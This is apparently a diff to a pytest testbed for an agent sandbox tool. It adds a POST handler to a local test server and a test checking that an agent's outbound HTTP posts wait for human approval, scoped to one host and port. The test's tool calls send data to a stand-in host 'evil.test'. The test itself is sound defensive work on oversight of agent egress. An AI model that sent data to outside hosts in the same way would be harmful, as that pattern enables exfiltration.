@@ -16,7 +16,7 @@ import time
 from collections.abc import Iterator
 
 import pytest
-from test_gate_bed import LOOP, Agent, audit, lev
+from test_gate_bed import LOOP, Agent, audit, lev, pending
 from testbed import Testbed
 
 pytestmark = pytest.mark.testbed
@@ -98,6 +98,14 @@ class H(http.server.BaseHTTPRequestHandler):
             self.send_response(200)
         self.end_headers()
         self.wfile.write(b"hello")
+
+    def do_POST(self):
+        self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        with open("/root/hits.log", "a") as f:
+            f.write(f"{{self.headers.get('Host')}} POST {{self.path}}\\n")
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"posted")
 
     def log_message(self, *args):
         pass
@@ -358,3 +366,46 @@ def test_a_user_config_cannot_raise_a_clearance_left_at_its_default(bed: Testbed
     finally:
         lev(bed, "alice", "stop", a.id, check=False)
         bed.run(["rm", "-f", f"{home}/.config/leviath/config.toml"])
+
+
+# ------------------------------------------------------------ 8. approvals
+
+
+def test_an_approval_shows_the_whole_call_and_a_session_answer_covers_that_port_only(
+    bed: Testbed,
+) -> None:
+    bed.write_file("/etc/leviath/config.toml",
+                   CONFIG.replace('on_exceed = "deny"', 'on_exceed = "ask"\napproval_timeout = 8')
+                   + CONFIG_RO)
+    time.sleep(1.5)  # inotify: applies to the next agent
+    a = _start(bed)
+    try:
+        _private(a, bed)
+        args = {"url": f"http://evil.test:{PORT}/p?q=1", "body": "12345",
+                "headers": {"X-Trace": "abc"}}
+        n = a.submit(f"lev tool http_post --json '{json.dumps(args)}'")
+        row = pending(bed, "alice", a.id)
+        assert row["target"] == "evil.test"
+        assert f"POST http://evil.test:{PORT}/p?q=1" in row["detail"], row
+        assert f"port {PORT}" in row["detail"] and "body 5 bytes" in row["detail"], row
+        assert "X-Trace: abc" in row["detail"], row
+        assert row["scope"] == f"evil.test:{PORT}"
+        listed = lev(bed, "alice", "approvals").stdout
+        assert f"POST http://evil.test:{PORT}/p?q=1" in listed, listed
+        lev(bed, "alice", "approve", row["id"], "--session")
+        rc, out, err = a.result(n)
+        assert rc == 0 and "posted" in out, err
+        # The same host on another port is another decision.
+        n = a.submit(f"lev tool http_post http://evil.test:{PORT + 1}/other x")
+        row = pending(bed, "alice", a.id)
+        assert row["scope"] == f"evil.test:{PORT + 1}"
+        lev(bed, "alice", "approve", row["id"], "--deny")
+        rc, _out, err = a.result(n)
+        assert rc != 0 and "refused-by-person" in err
+        # The approved port passes without asking.
+        rc, out, err = a.call(f"lev tool http_post http://evil.test:{PORT}/again y")
+        assert rc == 0 and "posted" in out, err
+    finally:
+        lev(bed, "alice", "stop", a.id, check=False)
+        bed.write_file("/etc/leviath/config.toml", CONFIG + CONFIG_RO)
+        time.sleep(1.5)
